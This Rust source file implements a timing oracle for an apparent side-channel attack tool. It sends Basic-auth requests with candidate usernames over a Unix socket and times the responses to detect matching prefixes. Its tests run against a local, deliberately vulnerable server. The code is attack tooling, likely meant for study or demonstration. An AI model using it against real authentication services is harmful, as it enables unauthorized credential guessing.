use super::Oracle;
use crate::{basic_auth_header, AttackError};

use http_body_util::{BodyExt, Empty};
use hyper::{
    body::Bytes,
    client::conn::http1::{self, SendRequest},
    header::{AUTHORIZATION, HOST},
    Request,
};
use hyper_util::rt::TokioIo;
use tokio::{net::UnixStream, sync::Mutex};
use tracing::{debug, trace};

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

/// Times Basic-auth GET requests over a local domain socket, keeping a
/// single HTTP/1.1 connection open per instance.
pub struct UnixSocketOracle {
    socket_path: PathBuf,
    path_and_query: String,
    password: String,
    timeout: Option<Duration>,
    connection: Mutex<Option<SendRequest<Empty<Bytes>>>>,
}

impl UnixSocketOracle {
    pub fn new(
        socket_path: &Path,
        url: &str,
        password: &str,
        timeout: Option<Duration>,
    ) -> Result<Self, AttackError> {
        let url = reqwest::Url::parse(url).map_err(|e| AttackError::InvalidUrl {
            url: url.to_string(),
            reason: e.to_string(),
        })?;
        let path_and_query = match url.query() {
            Some(query) => format!("{}?{}", url.path(), query),
            None => url.path().to_string(),
        };
        Ok(Self {
            socket_path: socket_path.to_path_buf(),
            path_and_query,
            password: password.to_string(),
            timeout,
            connection: Mutex::new(None),
        })
    }

    async fn connect(&self) -> Result<SendRequest<Empty<Bytes>>, AttackError> {
        let stream = UnixStream::connect(&self.socket_path).await?;
        let (sender, connection) = http1::handshake(TokioIo::new(stream)).await?;
        tokio::spawn(async move {
            if let Err(e) = connection.await {
                debug!("unix socket connection closed: {e}");
            }
        });
        Ok(sender)
    }

    async fn round_trip(
        &self,
        sender: &mut SendRequest<Empty<Bytes>>,
        request: Request<Empty<Bytes>>,
    ) -> Result<Duration, AttackError> {
        let start = Instant::now();
        let response = sender.send_request(request).await?;
        let elapsed = start.elapsed();

        let status = response.status();
        response.into_body().collect().await?;
        trace!(%status, ?elapsed, "oracle responded");
        Ok(elapsed)
    }
}

impl Oracle for UnixSocketOracle {
    async fn measure(&self, candidate: &str) -> Result<Duration, AttackError> {
        let mut connection = self.connection.lock().await;
        let mut sender = match connection.take() {
            Some(sender) if !sender.is_closed() => sender,
            _ => self.connect().await?,
        };
        sender.ready().await?;

        let request = Request::get(self.path_and_query.as_str())
            .header(HOST, "localhost")
            .header(AUTHORIZATION, basic_auth_header(candidate, &self.password))
            .body(Empty::new())?;

        let elapsed = match self.timeout {
            Some(limit) => tokio::time::timeout(limit, self.round_trip(&mut sender, request))
                .await
                .map_err(|_| AttackError::Timeout(limit))??,
            None => self.round_trip(&mut sender, request).await?,
        };
        *connection = Some(sender);
        Ok(elapsed)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    use crate::server::{spawn_unix_server, CredentialStore};

    #[tokio::test]
    async fn unix_socket_oracle_times_matching_prefix() {
        let dir = tempfile::tempdir().unwrap();
        let socket = dir.path().join("oracle.sock");
        let store = CredentialStore::new(Duration::from_millis(30)).with_user("ab", "secret");
        spawn_unix_server(&socket, store).await.unwrap();
        let oracle =
            UnixSocketOracle::new(&socket, "http://localhost/vulnerable", ".", None).unwrap();
        oracle.measure("zz").await.unwrap();

        let miss = oracle.measure("zz").await.unwrap();
        let hit = oracle.measure("ab").await.unwrap();

        assert!(hit >= Duration::from_millis(60), "hit took {hit:?}");
        assert!(hit > miss);
    }

    #[tokio::test]
    async fn unix_socket_oracle_fails_without_listener() {
        let dir = tempfile::tempdir().unwrap();
        let oracle = UnixSocketOracle::new(
            &dir.path().join("missing.sock"),
            "http://localhost/vulnerable",
            ".",
            None,
        )
        .unwrap();

        let err = oracle.measure("aa").await.unwrap_err();

        assert!(matches!(err, AttackError::Io(_)));
    }

    #[tokio::test]
    async fn unix_socket_oracle_times_out_hung_request() {
        let dir = tempfile::tempdir().unwrap();
        let socket = dir.path().join("oracle.sock");
        let store = CredentialStore::new(Duration::from_millis(300)).with_user("ab", "secret");
        spawn_unix_server(&socket, store).await.unwrap();
        let limit = Duration::from_millis(100);
        let oracle =
            UnixSocketOracle::new(&socket, "http://localhost/vulnerable", ".", Some(limit))
                .unwrap();

        let err = oracle.measure("ab").await.unwrap_err();
        let fast = oracle.measure("zz").await;

        assert!(matches!(err, AttackError::Timeout(d) if d == limit));
        assert!(err.is_connectivity());
        assert!(fast.is_ok(), "oracle did not recover: {fast:?}");
    }
}
